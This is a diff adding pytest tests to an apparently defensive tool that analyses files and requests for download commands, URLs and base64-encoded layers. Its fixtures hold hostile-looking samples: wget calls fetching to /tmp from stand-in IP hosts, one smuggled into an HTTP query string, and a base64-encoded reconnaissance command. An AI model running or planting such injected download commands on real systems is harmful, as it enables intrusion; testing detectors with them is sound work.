@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import hashlib
 import json
+from base64 import b64encode
+from io import BytesIO, TextIOWrapper
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -42,6 +45,49 @@ def test_layers_are_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) ->
     text = capsys.readouterr().out
     assert "decoded:\n  GET /?c=wget http://192.168.0.9/x HTTP/1.1" in text
     assert "names a private address:\n  http://192.168.0.9/x\n" in text
+
+
+def examined(data: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Any:
+    path = tmp_path / "sample"
+    path.write_bytes(data)
+    assert main(["analyze", "--json", str(path)]) == 0
+    return json.loads(capsys.readouterr().out)
+
+
+def test_a_program_that_names_urls_would_download_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    program = (
+        b"\x7fELF\x02\x01\x01" + bytes(60) + b"GNU_coreutils_translations/share/locale\0https://www.gnu.org/gethelp/\0"
+    )
+    found = examined(program, tmp_path, capsys)
+    assert (found["downloads"], found["urls"], found["layers"]) == ([], ["https://www.gnu.org/gethelp/"], [])
+    found = examined(program + b"wget http://45.9.8.7/x -O /tmp/x\0", tmp_path, capsys)
+    assert [d["url"] for d in found["downloads"]] == ["http://45.9.8.7/x"]
+
+
+def test_words_that_could_be_base64_are_no_layers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    request = (b"GET /a?x=;wget+http://192.0.2.6/a+-O+/tmp/a HTTP/1.1\r\nHost: h\r\nAccept: application/xhtml\r\n"
+               b"If-None-Match: d41d8cd98f00b204e9800998ecf8427e\r\nX: AdministratorPassword\r\n\r\n")  # fmt: skip
+    found = examined(request, tmp_path, capsys)
+    assert found["layers"] == []
+    assert [(d["url"], d["tool"]) for d in found["downloads"]] == [("http://192.0.2.6/a", "wget")]
+    assert found["urls"] == []
+
+
+@pytest.mark.parametrize(
+    ("inner", "shown"),
+    [(b"id; uname -a; whoami", "id; uname -a; whoami"), (b"\x7fELF\x01\x01\x01" + bytes(60), "(ELF 32-bit")],
+)
+def test_base64_that_is_meant_is_a_layer(
+    inner: bytes, shown: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (layer,) = examined(b"echo " + b64encode(inner) + b"\n", tmp_path, capsys)["layers"]
+    assert layer.startswith(shown)
+
+
+def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setattr("sys.stdin", TextIOWrapper(BytesIO(SCRIPT)))
+    assert main(["analyze", "-"]) == 0
+    assert capsys.readouterr().out.startswith("POSIX shell script\n")
 
 
 def test_an_empty_file_is_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
